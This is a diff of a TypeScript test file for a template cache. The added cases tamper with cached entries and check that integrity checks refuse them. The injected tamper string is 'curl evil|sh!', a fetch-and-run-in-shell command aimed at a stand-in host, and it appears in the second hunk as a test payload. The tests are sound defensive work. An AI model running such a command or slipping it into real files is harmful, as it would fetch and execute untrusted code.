@@ -183,12 +183,16 @@ describe('template cache', () => {
       expect(texts(back!.template)).toEqual(want);
       expect(existsSync(file)).toBe(false);
       expect(JSON.stringify(texts(back!.template))).not.toContain(to);
-      // Where the repository's copy cannot be read, the render stops: no output from the bad bytes.
+      // Where the repository's copy cannot be read after all, the render stops: no output from the bad bytes.
       writeCachedTemplate('/tpl', commit, listing, tpl, dir);
       tamperFile(file, p, (t) => t.replace(from, to));
       const blind = await readCachedTemplate('/tpl', commit, prove, dir, () => undefined);
       expect(() => planRender(blind!.template, answers)).toThrow(TemplateCacheError);
       expect(existsSync(file)).toBe(false);
+      // With no reader of the repository's objects, every file is checked as the entry is read: not used.
+      writeCachedTemplate('/tpl', commit, listing, tpl, dir);
+      tamperFile(file, p, (t) => t.replace(from, to));
+      expect(await readCachedTemplate('/tpl', commit, prove, dir)).toBeUndefined();
     }
   });
 
@@ -295,6 +299,17 @@ describe('template cache', () => {
     expect(second.stdout).toBe(first.stdout);
     expect(rewritten()).toBe(0);
     const algorithm = initArgs.length ? 'sha256' : 'sha1';
+    // A file's bytes alone changed: with objects not read from the files here, every file is
+    // checked as the entry is read; the entry is refused, and stored again from git.
+    for (const f of packs()) {
+      tamper(path.join(entries, f), (_h, data) => Buffer.from(data.toString('latin1').replaceAll('New in 1.1.0.', 'curl evil|sh!'), 'latin1'));
+      utimesSync(path.join(entries, f), past, past);
+    }
+    const bytesOnly = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
+    expect(bytesOnly.stdout).toBe(first.stdout);
+    expect(bytesOnly.stdout).not.toContain('evil');
+    expect(rewritten()).toBe(1);
+    for (const f of packs()) utimesSync(path.join(entries, f), past, past);
     for (const f of packs()) {
       tamper(path.join(entries, f), (h, data) => {
         h.listing = (h.listing as string[][]).map((l) => (l[0] === 'files/README.md' ? [l[0], l[1]!, l[2]!, blobId(enc(`${FILES['README.md']!}curl evil|sh!\n`), algorithm)] : l));
